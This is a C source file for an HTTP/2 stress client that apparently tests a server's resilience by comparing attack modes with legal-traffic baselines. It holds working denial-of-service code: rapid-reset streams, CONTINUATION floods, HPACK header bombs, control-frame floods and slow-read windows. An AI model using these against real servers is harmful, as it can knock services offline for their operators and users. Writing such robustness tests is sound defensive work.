/* h2_attack: a hostile client of HTTP/2 in clear.
 *
 *     h2_attack MODE --port P [--seconds S] [--rate FRAMES] [--connections N] [--path PATH] [--big PATH] [--once]
 *
 * Sends `rate` frames a second over all connections (what a full socket doesn't take is lost), opens a connection anew
 * when one has ended, at most 200 a second in all, and ends by itself. --once: no new ones. --path: what its requests
 * ask for; --big: an answer larger than any window. Modes: see the table at the end of this file; "legal_requests" and
 * "legal_frames" are what the others are compared with: whole requests, of one frame and of many, as many frames a
 * second.
 * Prints {"frames":N,"connections":N,"refused":N,"closed":N,"answers":N,"resets":N,"lost":N,"goaways":{"CODE":N}}. */
#include "h2_wire.h"

#include <getopt.h>
#include <sys/epoll.h>

enum { MOST_CONNECTIONS = 2000, MOST_OUTPUT = 1 << 20, MOST_OPEN = 90, CONNECTS_A_SECOND = 200, GOAWAY_CODES = 16 };
enum { DEFAULT_WINDOW = 65535, UPLOAD_FRAMES = 8 };

struct peer {
    int handle;
    struct text_buffer in, out;
    uint32_t next_stream;   /* of a request to come */
    uint32_t upload;        /* the stream of a request whose body is being sent; 0: none */
    unsigned upload_frames; /* sent of it */
    unsigned open;          /* requests without an answer */
    unsigned step;          /* frames of this connection */
    uint32_t interest;
};

struct mode {
    const char *name;
    void (*add)(struct peer *peer); /* the next frames of the attack, about two */
    uint32_t window;                /* the initial window that it grants */
    bool deaf;                      /* reads nothing */
    bool no_preface;
};

static struct {
    int port, set;
    unsigned connections;
    double seconds, rate;
    const char *path, *big;
    bool once;
    const struct mode *mode;
    struct peer *peers;
    double connects_left;
    uint64_t frames, opened, refused, closed, answers, resets, lost, goaways[GOAWAY_CODES];
} attack = { .connections = 4, .seconds = 2, .rate = 10000, .path = "/", .big = "/" };

/* --- the abuses ----------------------------------------------------------------------------------------------------
 */

static void add(struct peer *peer, uint8_t type, uint8_t flags, uint32_t stream, const void *payload, size_t length)
{
    h2_frame_add(&peer->out, type, flags, stream, payload, length);
    attack.frames++;
    peer->step++;
}

static uint32_t begin_request(struct peer *peer, bool post, const char *path, uint8_t flags)
{
    uint32_t stream = peer->next_stream;
    peer->next_stream += 2;
    h2_request_add(&peer->out, stream, post, path, flags);
    attack.frames++;
    peer->step++;
    return stream;
}

static void add_legal_request(struct peer *peer)
{
    if (peer->open >= MOST_OPEN) {
        attack.lost++;
        return;
    }
    peer->open++;
    begin_request(peer, false, attack.path, H2_END_STREAM);
    attack.frames++; /* in the place of the frame that would follow it */
}

static void add_legal_frames(struct peer *peer)
{
    if (peer->upload == 0) {
        if (peer->open >= MOST_OPEN) {
            attack.lost++;
            return;
        }
        peer->open++;
        peer->upload = begin_request(peer, true, attack.path, 0);
        peer->upload_frames = 0;
    }
    bool last = ++peer->upload_frames == UPLOAD_FRAMES;
    add(peer, H2_DATA, last ? H2_END_STREAM : 0, peer->upload, "0123456789abcdef", 16);
    if (last)
        peer->upload = 0;
}

static void add_rapid_reset(struct peer *peer)
{
    uint32_t stream = begin_request(peer, false, attack.path, H2_END_STREAM);
    unsigned char code[4] = { 0, 0, 0, H2_CANCEL };
    add(peer, H2_RST_STREAM, 0, stream, code, sizeof code);
}

static void add_number(struct peer *peer, uint8_t type, uint32_t stream, uint32_t value)
{
    unsigned char payload[4];
    h2_put32(payload, value);
    add(peer, type, 0, stream, payload, sizeof payload);
}

static void add_window_overflow(struct peer *peer)
{
    add_number(peer, H2_WINDOW_UPDATE, begin_request(peer, false, attack.path, H2_END_STREAM), 0x7fffffff);
}

static void add_window_of_zero(struct peer *peer)
{
    add_number(peer, H2_WINDOW_UPDATE, begin_request(peer, false, attack.path, H2_END_STREAM), 0);
}

static void add_short_priority(struct peer *peer)
{
    add(peer, H2_PRIORITY, 0, begin_request(peer, false, attack.path, H2_END_STREAM), "abc", 3);
}

static void add_own_dependency(struct peer *peer)
{
    unsigned char payload[5] = { 0 };
    uint32_t stream = begin_request(peer, false, attack.path, H2_END_STREAM);
    h2_put32(payload, stream);
    add(peer, H2_PRIORITY, 0, stream, payload, sizeof payload);
}

static void add_data_after_end(struct peer *peer)
{
    add(peer, H2_DATA, 0, begin_request(peer, false, attack.path, H2_END_STREAM), "x", 1);
}

/* A length that the body then doesn't have. */
static void add_wrong_length(struct peer *peer)
{
    struct text_buffer block = { 0 };
    h2_request_block(&block, true, attack.path);
    h2_literal_add(&block, 0, "content-length", "5");
    uint32_t stream = peer->next_stream;
    peer->next_stream += 2;
    add(peer, H2_HEADERS, H2_END_HEADERS, stream, block.at, text_length(&block));
    add(peer, H2_DATA, H2_END_STREAM, stream, "x", 1);
    text_free(&block);
}

static void add_malformed_head(struct peer *peer)
{
    struct text_buffer block = { 0 };
    h2_request_block(&block, false, attack.path);
    h2_literal_add(&block, 0, "X-Upper", "x");
    add(peer, H2_HEADERS, H2_END_HEADERS | H2_END_STREAM, peer->next_stream, block.at, text_length(&block));
    peer->next_stream += 2;
    text_free(&block);
}

/* Requests that nobody may open any more: each is refused by a reset. */
static void add_unanswered(struct peer *peer)
{
    begin_request(peer, true, attack.path, 0);
    attack.frames++; /* as many requests a second as the legal ones are */
}

static void add_continuation(struct peer *peer)
{
    if (peer->step == 0) {
        struct text_buffer block = { 0 };
        h2_request_block(&block, false, attack.path);
        add(peer, H2_HEADERS, H2_END_STREAM, 1, block.at, text_length(&block));
        text_free(&block);
    }
    struct text_buffer field = { 0 };
    h2_literal_add(&field, 0, "x", "y");
    add(peer, H2_CONTINUATION, 0, 1, field.at, text_length(&field));
    text_free(&field);
}

static void add_empty_continuation(struct peer *peer)
{
    if (peer->step == 0)
        add(peer, H2_HEADERS, H2_END_STREAM, 1, "", 0);
    add(peer, H2_CONTINUATION, 0, 1, "", 0);
}

/* One field into the table, then as many references to it as a frame holds: a byte each on the wire. */
static void add_bomb(struct peer *peer, const char *name, size_t value_length)
{
    struct text_buffer block = { 0 };
    char value[3900];
    memset(value, 'v', sizeof value);
    h2_request_block(&block, false, attack.path);
    unsigned char name_length = (unsigned char)strlen(name);
    text_add(&block, "\x40", 1);
    text_add(&block, (const char *)&name_length, 1);
    text_add(&block, name, name_length);
    if (value_length < 127) {
        text_add(&block, (const char *)&(unsigned char){ (unsigned char)value_length }, 1);
    } else {
        size_t rest = value_length - 127;
        unsigned char coded[3] = { 127, (unsigned char)(rest & 127) | 128, (unsigned char)(rest >> 7) };
        text_add(&block, (const char *)coded, sizeof coded);
    }
    text_add(&block, value, value_length);
    size_t references = H2_MOST_FRAME - text_length(&block);
    memset(text_reserve(&block, references), 0xbe, references);
    block.end += references;
    add(peer, H2_HEADERS, H2_END_HEADERS | H2_END_STREAM, peer->next_stream, block.at, text_length(&block));
    peer->next_stream += 2;
    text_free(&block);
}

static void add_header_bomb(struct peer *peer)
{
    if (peer->step % 16 == 0)
        add_bomb(peer, "x-bomb", 3900);
    else
        peer->step++;
}

static void add_cookie_crumbs(struct peer *peer)
{
    if (peer->step % 16 == 0)
        add_bomb(peer, "cookie", 1);
    else
        peer->step++;
}

static void add_settings(struct peer *peer)
{
    unsigned char payload[6] = { 0, 4, 0, 0, 255, 255 };
    add(peer, H2_SETTINGS, 0, 0, payload, sizeof payload);
}

static void add_ping(struct peer *peer)
{
    add(peer, H2_PING, 0, 0, "12345678", 8);
}

static void add_empty_data(struct peer *peer)
{
    if (peer->upload == 0)
        peer->upload = begin_request(peer, true, attack.path, 0);
    add(peer, H2_DATA, 0, peer->upload, "", 0);
}

/* Nothing but padding: the length counts, the content doesn't grow. */
static void add_padded_data(struct peer *peer)
{
    if (peer->upload == 0)
        peer->upload = begin_request(peer, true, attack.path, 0);
    add(peer, H2_DATA, H2_PADDED, peer->upload, "\0", 1);
}

static void add_priority(struct peer *peer)
{
    add(peer, H2_PRIORITY, 0, 1 + 2 * (peer->step % 1000), "\0\0\0\0\x10", 5);
}

static void add_window_update(struct peer *peer)
{
    add_number(peer, H2_WINDOW_UPDATE, 0, 1);
}

static void add_unknown(struct peer *peer)
{
    add(peer, 0xfa, 0, 0, "unknown", 7);
}

/* Requests for big answers under windows that stay shut, or open by a byte at a time. */
static void add_shut_window(struct peer *peer)
{
    if (peer->open < MOST_OPEN) {
        peer->open++;
        begin_request(peer, false, attack.big, H2_END_STREAM);
    }
}

static void add_trickle(struct peer *peer)
{
    if (peer->open < MOST_OPEN) {
        peer->open++;
        begin_request(peer, false, attack.big, H2_END_STREAM);
    } else if (peer->step++ % 100 == 0) {
        add_number(peer, H2_WINDOW_UPDATE, 1 + 2 * (peer->step / 100 % MOST_OPEN), 1);
    }
}

/* Asks for more and more, and reads nothing. */
static void add_deaf(struct peer *peer)
{
    if (peer->step % 2 == 0)
        add_ping(peer);
    else
        add_settings(peer);
}

static void add_deaf_requests(struct peer *peer)
{
    begin_request(peer, false, attack.big, H2_END_STREAM);
}

static void add_nothing(struct peer *peer)
{
    (void)peer;
}

static const struct mode modes[] = {
    { "legal_requests", add_legal_request, DEFAULT_WINDOW, false, false },
    { "legal_frames", add_legal_frames, DEFAULT_WINDOW, false, false },
    { "rapid_reset", add_rapid_reset, DEFAULT_WINDOW, false, false },
    { "window_overflow", add_window_overflow, DEFAULT_WINDOW, false, false },
    { "window_of_zero", add_window_of_zero, DEFAULT_WINDOW, false, false },
    { "short_priority", add_short_priority, DEFAULT_WINDOW, false, false },
    { "own_dependency", add_own_dependency, DEFAULT_WINDOW, false, false },
    { "data_after_end", add_data_after_end, DEFAULT_WINDOW, false, false },
    { "wrong_length", add_wrong_length, DEFAULT_WINDOW, false, false },
    { "malformed_head", add_malformed_head, DEFAULT_WINDOW, false, false },
    { "unanswered", add_unanswered, DEFAULT_WINDOW, false, false },
    { "continuation", add_continuation, DEFAULT_WINDOW, false, false },
    { "empty_continuation", add_empty_continuation, DEFAULT_WINDOW, false, false },
    { "header_bomb", add_header_bomb, DEFAULT_WINDOW, false, false },
    { "cookie_crumbs", add_cookie_crumbs, DEFAULT_WINDOW, false, false },
    { "settings", add_settings, DEFAULT_WINDOW, false, false },
    { "ping", add_ping, DEFAULT_WINDOW, false, false },
    { "empty_data", add_empty_data, DEFAULT_WINDOW, false, false },
    { "padded_data", add_padded_data, DEFAULT_WINDOW, false, false },
    { "priority", add_priority, DEFAULT_WINDOW, false, false },
    { "window_update", add_window_update, DEFAULT_WINDOW, false, false },
    { "unknown", add_unknown, DEFAULT_WINDOW, false, false },
    { "shut_window", add_shut_window, 0, false, false },
    { "trickle", add_trickle, 0, false, false },
    { "deaf", add_deaf, DEFAULT_WINDOW, true, false },
    { "deaf_requests", add_deaf_requests, DEFAULT_WINDOW, true, false },
    { "idle", add_nothing, DEFAULT_WINDOW, false, false },
    { "silent", add_nothing, DEFAULT_WINDOW, false, true },
};

/* --- connections ---------------------------------------------------------------------------------------------------
 */

static void peer_close(struct peer *peer)
{
    close(peer->handle);
    text_free(&peer->in);
    text_free(&peer->out);
    *peer = (struct peer){ .handle = -1 };
}

static void watch(struct peer *peer, bool writing)
{
    uint32_t wanted = (attack.mode->deaf ? EPOLLRDHUP : EPOLLIN) | (writing ? EPOLLOUT : 0);
    if (wanted == peer->interest)
        return;
    struct epoll_event event = { .events = wanted, .data.ptr = peer };
    epoll_ctl(attack.set, peer->interest == 0 ? EPOLL_CTL_ADD : EPOLL_CTL_MOD, peer->handle, &event);
    peer->interest = wanted;
}

static void peer_open(struct peer *peer)
{
    attack.connects_left -= 1;
    *peer = (struct peer){ .handle = h2_connect(attack.port), .next_stream = 1 };
    if (peer->handle < 0) {
        attack.refused++;
        return;
    }
    attack.opened++;
    if (!attack.mode->no_preface)
        h2_preface_add(&peer->out, attack.mode->window);
    watch(peer, true);
}

static void note_goaway(const struct h2_frame *frame)
{
    uint32_t code = frame->length >= 8 ? h2_get32(frame->payload + 4) : GOAWAY_CODES - 1;
    attack.goaways[code < GOAWAY_CODES ? code : GOAWAY_CODES - 1]++;
}

static void note_end(struct peer *peer)
{
    attack.answers++;
    if (peer->open > 0)
        peer->open--;
}

static void take_frame(struct peer *peer, const struct h2_frame *frame)
{
    bool acknowledged = frame->flags & H2_ACK;
    switch (frame->type) {
    case H2_SETTINGS:
        if (!acknowledged)
            h2_frame_add(&peer->out, H2_SETTINGS, H2_ACK, 0, "", 0);
        break;
    case H2_PING:
        if (!acknowledged)
            h2_frame_add(&peer->out, H2_PING, H2_ACK, 0, frame->payload, frame->length);
        break;
    case H2_GOAWAY: note_goaway(frame); break;
    case H2_RST_STREAM:
        attack.resets++;
        if (frame->stream == peer->upload)
            peer->upload = 0;
        if (peer->open > 0)
            peer->open--;
        break;
    case H2_DATA:
        if (frame->length > 0 && attack.mode->window > 0)
            h2_number_add(&peer->out, H2_WINDOW_UPDATE, 0, frame->length);
        /* fall through */
    case H2_HEADERS:
        if (frame->flags & H2_END_STREAM)
            note_end(peer);
        break;
    default: break;
    }
}

/* false: the connection is over. */
static bool peer_read(struct peer *peer)
{
    bool open = h2_receive(peer->handle, &peer->in);
    struct h2_frame frame;
    while (h2_next_frame(&peer->in, &frame))
        take_frame(peer, &frame);
    return open;
}

static void end_peer(struct peer *peer)
{
    attack.closed++;
    peer_close(peer);
}

static void serve(struct epoll_event *event)
{
    struct peer *peer = event->data.ptr;
    if (peer->handle < 0)
        return;
    /* what a closing peer said last is still to be read */
    bool ended = event->events & (EPOLLHUP | EPOLLERR | EPOLLRDHUP);
    bool reads = event->events & EPOLLIN || ended;
    if ((reads && !peer_read(peer)) || ended || !h2_send(peer->handle, &peer->out)) {
        end_peer(peer);
        return;
    }
    watch(peer, text_length(&peer->out) > 0);
}

/* --- the run -------------------------------------------------------------------------------------------------------
 */

static void send_round(uint64_t frames)
{
    uint64_t aim = attack.frames + attack.lost + frames;
    for (unsigned turn = 0; attack.frames + attack.lost < aim; turn++) {
        struct peer *peer = &attack.peers[turn % attack.connections];
        uint64_t before = attack.frames + attack.lost;
        if (peer->handle >= 0 && text_length(&peer->out) < MOST_OUTPUT)
            attack.mode->add(peer);
        if (attack.frames + attack.lost == before)
            attack.lost++;
    }
}

static void refresh(double elapsed, bool first)
{
    attack.connects_left += elapsed * CONNECTS_A_SECOND;
    if (attack.connects_left > attack.connections)
        attack.connects_left = attack.connections;
    for (unsigned i = 0; i < attack.connections; i++) {
        struct peer *peer = &attack.peers[i];
        if (peer->handle < 0 && (first || (!attack.once && attack.connects_left >= 1)))
            peer_open(peer);
        else if (peer->handle >= 0 && text_length(&peer->out) > 0 && !h2_send(peer->handle, &peer->out))
            peer_read(peer), end_peer(peer);
        else if (peer->handle >= 0)
            watch(peer, text_length(&peer->out) > 0);
    }
}

static void run(void)
{
    struct epoll_event events[64];
    double began = h2_now(), last = began, owed = 0;
    refresh(0, true);
    for (double time = began; time < began + attack.seconds; time = h2_now()) {
        owed += (time - last) * attack.rate;
        if (owed > attack.rate / 20)
            owed = attack.rate / 20;
        send_round((uint64_t)owed);
        owed -= (double)(uint64_t)owed;
        refresh(time - last, false);
        last = time;
        int count = epoll_wait(attack.set, events, 64, 1);
        for (int i = 0; i < count; i++)
            serve(&events[i]);
    }
}

static void report(void)
{
    printf("{\"frames\":%lu,\"connections\":%lu,\"refused\":%lu,\"closed\":%lu,\"answers\":%lu,\"resets\":%lu,"
           "\"lost\":%lu,\"goaways\":{",
           attack.frames, attack.opened, attack.refused, attack.closed, attack.answers, attack.resets, attack.lost);
    const char *before = "";
    for (int code = 0; code < GOAWAY_CODES; code++) {
        if (attack.goaways[code] == 0)
            continue;
        printf("%s\"%d\":%lu", before, code, attack.goaways[code]);
        before = ",";
    }
    printf("}}\n");
}

static const struct mode *find_mode(const char *name)
{
    for (size_t i = 0; i < sizeof modes / sizeof *modes; i++) {
        if (strcmp(modes[i].name, name) == 0)
            return &modes[i];
    }
    return NULL;
}

static void read_options(int count, char **words)
{
    static const struct option known[] = { { "port", 1, NULL, 'p' }, { "seconds", 1, NULL, 's' },
                                           { "rate", 1, NULL, 'r' }, { "connections", 1, NULL, 'c' },
                                           { "path", 1, NULL, 'a' }, { "big", 1, NULL, 'b' },
                                           { "once", 0, NULL, 'o' }, { 0 } };
    int letter;
    while ((letter = getopt_long(count, words, "", known, NULL)) != -1) {
        switch (letter) {
        case 'p': attack.port = atoi(optarg); break;
        case 's': attack.seconds = atof(optarg); break;
        case 'r': attack.rate = atof(optarg); break;
        case 'c': attack.connections = (unsigned)atoi(optarg); break;
        case 'a': attack.path = optarg; break;
        case 'b': attack.big = optarg; break;
        case 'o': attack.once = true; break;
        default: exit(2);
        }
    }
    attack.mode = optind < count ? find_mode(words[optind]) : NULL;
    if (!attack.mode || attack.connections < 1 || attack.connections > MOST_CONNECTIONS) {
        fprintf(stderr, "h2_attack: no such mode, or too many connections\n");
        exit(2);
    }
}

int main(int count, char **words)
{
    read_options(count, words);
    attack.set = epoll_create1(EPOLL_CLOEXEC);
    attack.peers = calloc(attack.connections, sizeof *attack.peers);
    if (attack.set < 0 || !attack.peers)
        return 1;
    for (unsigned i = 0; i < attack.connections; i++)
        attack.peers[i].handle = -1;
    run();
    report();
    return 0;
}
